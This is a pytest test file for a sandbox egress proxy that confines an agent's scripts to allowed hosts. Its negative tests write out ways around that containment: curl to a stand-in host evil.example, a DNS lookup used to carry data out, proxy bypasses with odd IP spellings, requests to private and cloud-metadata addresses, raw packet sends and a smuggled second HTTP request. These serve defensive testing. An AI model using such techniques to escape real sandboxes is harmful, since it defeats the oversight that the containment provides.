"""The way out of the sandbox, with real sockets: to a post's hosts, and to nothing else."""

import asyncio
import ipaddress
import logging
import os
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from tests.patience import PATIENCE, until

from longhouse.runtime.sandbox.base import Command, Completed, Sandbox, SandboxLimits
from longhouse.runtime.sandbox.egress import Egress, EgressLimits
from longhouse.runtime.sandbox.egress_hosts import Address, InvalidHost
from longhouse.runtime.sandbox.off import Unprotected

pytestmark = pytest.mark.sandbox

LOOPBACK = ("127.0.0.0/8", "::1/128")


@dataclass
class Site:
    """A host on this machine's loopback, and what it was asked."""

    port: int = 0
    heads: list[bytes] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)
    lookups: list[str] = field(default_factory=list)
    answers: Sequence[str] = ("127.0.0.1",)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            self.heads.append(head)
            length = head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0]
            body = await reader.readexactly(int(length or 0))
            self.bodies.append(body)
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n"
            )
            await writer.drain()
        except (asyncio.IncompleteReadError, OSError):
            pass
        finally:
            writer.close()

    async def resolve(self, host: str) -> list[Address]:
        self.lookups.append(host)
        return [ipaddress.ip_address(each) for each in self.answers]


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    made = Site()
    server = await asyncio.start_server(made.serve, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    yield made
    server.close()


@dataclass
class Place:
    """Runs scripts in the sandbox, with the way out that a post with these hosts has."""

    sandbox: Sandbox
    workspace: Path
    site: Site

    def reaching(self, *hosts: str, networks: Sequence[str] = LOOPBACK, **limits: float) -> Sandbox:
        bounds = EgressLimits(**limits)  # type: ignore[arg-type]
        egress = Egress(networks=networks, resolve=self.site.resolve, limits=bounds)
        return egress.reaching(self.sandbox, hosts, agent_id="agent-1")

    def command(self, script: str, **env: str) -> Command:
        known = {"PORT": str(self.site.port), "URL": f"http://shop.example:{self.site.port}"}
        return Command(
            argv=("sh", "-c", f"{{ {script}\n}} 2>&1"),
            workspace=self.workspace,
            env=known | env,
            limits=SandboxLimits(wall_seconds=PATIENCE),
        )

    async def sh(self, script: str, *, networks: Sequence[str] = LOOPBACK) -> Completed:
        host = f"shop.example:{self.site.port}"
        return await self.reaching(host, networks=networks).run(self.command(script))

    async def python(self, script: str) -> Completed:
        (self.workspace / "script.py").write_text(script)
        return await self.sh("python3 script.py")


@pytest.fixture
def place(protection: Sandbox, tmp_path: Path, site: Site) -> Place:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    return Place(protection, workspace, site)


# --- what is reached ------------------------------------------------------------------------------


async def test_curl_reaches_a_host_of_the_post(place: Place, site: Site) -> None:
    done = await place.sh("curl -sS $URL/x -H 'Host: evil.example'")

    assert done.output == b"hello\n"
    assert site.heads[0].startswith(b"GET /x HTTP/1.1\r\nHost: shop.example:%d\r\n" % site.port)
    assert b"evil" not in site.heads[0]


async def test_curl_reaches_it_through_a_tunnel(place: Place, site: Site) -> None:
    assert (await place.sh("curl -sSp $URL/x")).output == b"hello\n"


async def test_python_reaches_it(place: Place) -> None:
    done = await place.python(
        "import os, urllib.request\n"
        "print(urllib.request.urlopen(os.environ['URL'], timeout=60).read())"
    )

    assert done.output == b"b'hello\\n'\n"


async def test_a_body_arrives_whole(place: Place, site: Site) -> None:
    done = await place.sh("head -c 3000000 /dev/zero | curl -sS --data-binary @- $URL/up")

    assert done.output == b"hello\n"
    assert site.bodies == [b"\0" * 3_000_000]


async def test_many_connections_at_once_are_answered(place: Place) -> None:
    done = await place.sh("for i in $(seq 20); do curl -sS $URL & done; wait")

    assert done.output == b"hello\n" * 20


async def test_the_next_address_is_tried_when_one_does_not_answer(place: Place, site: Site) -> None:
    site.answers = ("127.0.0.2", "127.0.0.1")

    assert (await place.sh("curl -sS $URL")).output == b"hello\n"


async def test_a_command_that_was_started_reaches_it_too(place: Place, site: Site) -> None:
    heard: list[bytes] = []
    sandbox = place.reaching(f"shop.example:{site.port}")

    running = await sandbox.start(
        place.command("curl -sS $URL; curl -s http://evil.example"), heard.append
    )
    done = await running.wait()

    assert done.output.startswith(b"hello\n")
    assert b"[network: evil.example:80 was refused" in b"".join(heard)
    assert b"[network: evil.example:80 was refused" in done.output


async def test_a_post_without_hosts_gets_the_sandbox_as_it_is(place: Place) -> None:
    assert place.reaching() is place.sandbox


async def test_hosts_that_mean_nothing_are_refused(place: Place) -> None:
    with pytest.raises(InvalidHost):
        place.reaching("https://shop.example/")


async def test_the_command_is_as_it_would_be_without_a_way_out(place: Place) -> None:
    script = "pwd; ls /proc/self/fd; grep Sig /proc/self/status; echo $0"
    plain = await place.sandbox.run(place.command(script))

    assert (await place.sh(script)).output == plain.output
    assert (await place.sh("exit 42")).exit_code == 42


async def test_nothing_is_left_open(place: Place) -> None:
    await place.sh("curl -s $URL")
    before = os.listdir("/proc/self/fd")

    for _ in range(3):
        await place.sh("curl -s $URL; curl -s http://evil.example")
    slow = place.command("sleep 60 | curl -s telnet://127.0.0.1:3128")
    task = asyncio.ensure_future(place.reaching("shop.example").run(slow))
    await asyncio.sleep(0)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task

    await until(lambda: len(os.listdir("/proc/self/fd")) <= len(before))  # closing takes turns


# --- what is not ----------------------------------------------------------------------------------


async def test_any_other_host_is_refused_and_the_model_learns_why(
    place: Place, site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)

    done = await place.sh("curl -s https://evil.example/; curl -s http://evil.example:8080/")

    said = done.output.decode()
    assert "[network: evil.example:443 was refused: it is not among the hosts" in said
    assert f"(shop.example:{site.port})]" in said
    assert "longhouse: evil.example:8080 was refused" in said
    assert "egress of agent 'agent-1': evil.example:443 was refused" in caplog.text
    assert site.lookups == []  # a look-up would carry the name out
    assert site.heads == []


@pytest.mark.parametrize(
    "answer",
    ["127.0.0.1", "::1", "10.0.0.1", "169.254.169.254", "fd00::1", "::ffff:127.0.0.1", "0.0.0.0"],
)
async def test_a_name_that_leads_to_a_private_address_is_refused(
    place: Place, site: Site, answer: str
) -> None:
    site.answers = (answer,)

    done = await place.sh("curl -sSi $URL", networks=())

    assert b"403" in done.output
    assert b"private network" in done.output
    assert site.heads == []


async def test_a_private_address_among_public_ones_is_not_tried(place: Place, site: Site) -> None:
    site.answers = ("10.255.255.1", "127.0.0.1")

    assert (await place.sh("curl -sS $URL")).output == b"hello\n"


async def test_the_name_is_looked_up_once(place: Place, site: Site) -> None:
    await place.sh("curl -sS $URL")

    assert site.lookups == ["shop.example"]


ATTEMPTS = {
    "the machine's loopback": "curl --noproxy '*' -sS -m 2 http://127.0.0.1:$PORT",
    "another port of the host": "curl -sS http://shop.example:1",
    "the host by its address": "curl -sS -p --noproxy '' http://127.0.0.1:$PORT",
    "an odd spelling": "curl -sS -p -x 127.0.0.1:3128 http://2130706433:$PORT",
    "a mapped address": "curl -sS -p http://[::ffff:127.0.0.1]:$PORT",
    "past the proxy": "curl --noproxy '*' -sS -m 2 --resolve x:$PORT:127.0.0.1 http://x:$PORT",
    "the DNS": "python3 -c 'import socket; socket.getaddrinfo(\"secret.evil.example\", 80)'",
}


@pytest.mark.parametrize("script", ATTEMPTS.values(), ids=ATTEMPTS)
async def test_nothing_leads_around_the_proxy(place: Place, site: Site, script: str) -> None:
    done = await place.sh(script)

    assert b"hello" not in done.output
    assert site.heads == []
    assert site.lookups == []


PACKETS = {
    "UDP": "socket.SOCK_DGRAM, 0",
    "UDP to the DNS": "socket.SOCK_DGRAM, socket.IPPROTO_UDP",
    "ICMP": "socket.SOCK_DGRAM, socket.IPPROTO_ICMP",
    "raw": "socket.SOCK_RAW, socket.IPPROTO_TCP",
}


@pytest.mark.parametrize("kind", PACKETS.values(), ids=PACKETS)
async def test_no_packets_can_be_sent(place: Place, kind: str) -> None:
    done = await place.python(
        f"import socket\nsocket.socket(socket.AF_INET, {kind})"
        ".sendto(b'x', ('127.0.0.1', 53))\nprint('SENT')"
    )

    assert b"SENT" not in done.output
    assert b"Operation not permitted" in done.output


async def test_a_second_request_on_a_connection_goes_nowhere(place: Place, site: Site) -> None:
    done = await place.python(
        "import os, socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        "one = f\"GET {os.environ['URL']}/1 HTTP/1.1\\r\\n\\r\\n\"\n"
        "two = 'GET /2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'\n"
        "s.sendall((one + two).encode())\n"
        "print(b''.join(iter(lambda: s.recv(4096), b'')))"
    )

    assert done.output.count(b"hello") == 1
    assert [head.split()[1] for head in site.heads] == [b"/1"]
    assert b"/2" not in b"".join(site.bodies)


# --- limits ---------------------------------------------------------------------------------------


async def test_connections_are_limited(place: Place, site: Site) -> None:
    sandbox = place.reaching(f"shop.example:{site.port}", connections=4)
    script = (
        "import os, socket\n"
        "held = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(6)]\n"
        "print(held[-1].recv(100))"
    )
    (place.workspace / "script.py").write_text(script)

    done = await sandbox.run(place.command("python3 script.py"))

    assert b"503" in done.output
    assert b"4 connections at once" in done.output


async def test_a_head_without_end_is_refused(place: Place) -> None:
    done = await place.python(
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        "s.sendall(b'GET http://shop.example/' + b'x' * 40000)\n"
        "print(s.recv(100))"
    )

    assert b"431" in done.output or b"reset" in done.output


async def test_who_says_nothing_is_hung_up_on(place: Place, site: Site) -> None:
    sandbox = place.reaching(f"shop.example:{site.port}", head_seconds=0.2)
    script = "import socket\nprint(socket.create_connection(('127.0.0.1', 3128)).recv(9))"
    (place.workspace / "script.py").write_text(script)

    done = await sandbox.run(place.command("python3 script.py"))

    assert done.output == b"b''\n"


async def test_a_tunnel_on_which_nothing_happens_ends(place: Place, site: Site) -> None:
    sandbox = place.reaching(f"shop.example:{site.port}", idle_seconds=0.3)
    script = (
        "import os, socket\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        "s.sendall(f\"CONNECT shop.example:{os.environ['PORT']} HTTP/1.1\\r\\n\\r\\n\".encode())\n"
        "print(b''.join(iter(lambda: s.recv(4096), b'')))"
    )
    (place.workspace / "script.py").write_text(script)

    done = await sandbox.run(place.command("python3 script.py"))

    assert done.output == b"b'HTTP/1.1 200 Connection established\\r\\n\\r\\n'\n"


async def test_without_a_sandbox_hosts_change_nothing(place: Place, site: Site) -> None:
    plain = Unprotected()

    done = await Egress().reaching(plain, ("shop.example",)).run(place.command("env"))

    assert done.exit_code == 0
    assert b"HTTP_PROXY" not in done.output
